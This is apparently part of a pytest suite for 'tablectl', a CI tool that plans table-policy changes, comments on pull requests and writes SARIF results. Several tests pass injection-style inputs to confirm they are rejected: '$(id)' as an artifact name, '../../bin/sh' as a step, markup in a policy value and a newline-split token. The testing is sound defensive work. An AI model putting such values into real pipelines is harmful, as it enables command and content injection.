    def meanwhile(_sql: str) -> None:
        if not second:
            second.append(-1)
            second[0] = tablectl.apply(plan).exit_code

    plan = downloaded(runner) / "plan.json"
    fake_spark.after = meanwhile
    assert runner.step("apply")[0] == 0
    assert second == [4]
    assert len(fake_spark.sent) == 1


def test_policies_that_are_wrong_become_a_comment_and_annotations(
    runner: Runner, repo: Repository, github: FakeGitHub
) -> None:
    repo.policies("version: 1\ntables:\n  lake.a.b: {clusterin: ['@acme ``` <img>']}\n")
    outputs = pull_request(runner)
    assert outputs["exit-code"] == "1"
    assert outputs["changes"] == "false"
    body = Path(outputs["report"]).read_text()
    assert body.startswith("**⛔ Plan: failed**\n\n```text\nerror: policies/lake.yaml:3:")
    assert "did you mean `clustering`?" in body
    assert body.endswith("```\n\n<!-- tablectl plan -->\n")
    (result,) = json.loads(Path(outputs["sarif"]).read_text())["runs"][0]["results"]
    assert result["ruleId"] == "invalid"
    assert result["locations"][0]["physicalLocation"]["region"]["startLine"] == 3


def test_a_refusal_fails_the_job_and_its_plan_can_be_read(runner: Runner, repo: Repository) -> None:
    repo.table("day", partitions=["day"])
    repo.policies({"day": "{clustering: [id]}"})
    outputs = pull_request(runner)
    assert outputs["exit-code"] == "3"
    assert Path(outputs["folder"], "plan.json").exists()


def test_a_plan_that_is_too_large_leaves_nothing_to_apply(runner: Runner, orders: Path) -> None:
    code, outputs = runner.step("plan", arguments="--max-tables=0")
    assert code == 3
    assert not Path(outputs["folder"], "plan.json").exists()
    assert Path(outputs["report"]).exists()


def test_a_comment_that_cannot_be_written_is_a_warning(runner: Runner, github: FakeGitHub, orders: Path) -> None:
    outputs = pull_request(runner)
    for failing in ([403], [200, 403]):
        github.fail = failing
        assert runner.step("comment", report=outputs["report"]) == (0, {})
        warning = f"::warning title=tablectl::no comment could be written: {github.api} answers 403: no; the job needs"
        assert runner.log.startswith(warning)
    github.fail = [403]
    runner.step("comment", report=outputs["report"])
    assert "pull-requests: write" in runner.log
    assert runner.step("comment", report=outputs["report"], token="ghs_a\nb") == (0, {})
    assert "no comment could be written: INPUT_TOKEN holds no token" in runner.log
    assert "ghs_a" not in runner.log


def test_without_a_pull_request_there_is_no_comment(runner: Runner, github: FakeGitHub, orders: Path) -> None:
    runner.event(schedule="17 5 * * *")
    _, outputs = runner.step("plan")
    assert outputs["artifact"] == "tablectl-plan"
    assert runner.step("comment", report=outputs["report"]) == (0, {})
    assert github.asked == []


def test_values_given_as_arguments_are_warned_of(runner: Runner, repo: Repository) -> None:
    repo.table("orders")
    repo.policies("version: 1\ntables:\n  delta.`${LAKE}/orders`: {isolation: Serializable}\n")
    runner.environ["TABLECTL_VAR_LAKE"] = "/elsewhere"
    assert runner.step("plan", arguments=f"--var=LAKE={repo.lake}")[0] == 0
    assert "apply will refuse this plan" in runner.log
    assert "TABLECTL_VAR_" in runner.log


def test_drift_fails_the_job_and_says_what_to_do(runner: Runner, orders: Path) -> None:
    code, outputs = runner.step("drift")
    assert (code, outputs["exit-code"], outputs["changes"]) == (2, "2", "true")
    assert runner.summary.startswith("**🟡 Drift: ")
    assert "drift --adopt" in runner.log
    assert json.loads(Path(outputs["sarif"]).read_text())["runs"][0]["results"]
    set_property(orders, "owner.team", "pay")
    assert runner.step("drift")[0] == 0


def test_findings_are_on_the_page_of_the_run_and_errors_fail_it(runner: Runner, repo: Repository, orders: Path) -> None:
    code, outputs = runner.step("lint", arguments="--max-tables=5")
    assert (code, outputs["exit-code"]) == (0, "0")
    assert runner.summary.strip() == Path(outputs["report"]).read_text().strip()
    Path("tablectl.yaml").write_text("lint: {L001: error, severity: {L001: error}}\n")
    assert runner.step("lint")[0] == 1, "what is wrong in the configuration"
    assert "Lint: failed" in runner.summary


def test_the_command_line_of_the_steps(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    assert main([]) == 64
    assert main(["../../bin/sh"]) == 64
    assert "base|plan|comment|find|apply|drift" in capsys.readouterr().err
    monkeypatch.setenv("RUNNER_TEMP", "/tmp")
    monkeypatch.setenv("INPUT_NAME", "$(id)")
    assert main(["plan"]) == 64
    assert "is not a name for an artifact" in capsys.readouterr().out
    assert sys.argv


_BROKEN_STEP = """
import sys
from tablectl.ci import __main__ as entry, steps
class PanicException(BaseException):  # as Rust's libraries raise it
    __module__ = "pyo3_runtime"
def broken(job):
    raise PanicException("a bug")
steps.STEPS["find"] = broken
sys.exit(entry.main(["find"]))
"""


@pytest.mark.parametrize("debug", ["", "1"])
def test_a_step_prints_the_debug_log_that_its_unexpected_errors_name(debug: str) -> None:
    command = [sys.executable, "-c", _BROKEN_STEP]
    ran = subprocess.run(command, capture_output=True, text=True, check=False, env={**os.environ, DEBUG: debug})
    assert ran.returncode == 1
    assert f"{DEBUG}=1" in ran.stdout
    assert ("Traceback" in ran.stderr) is bool(debug)
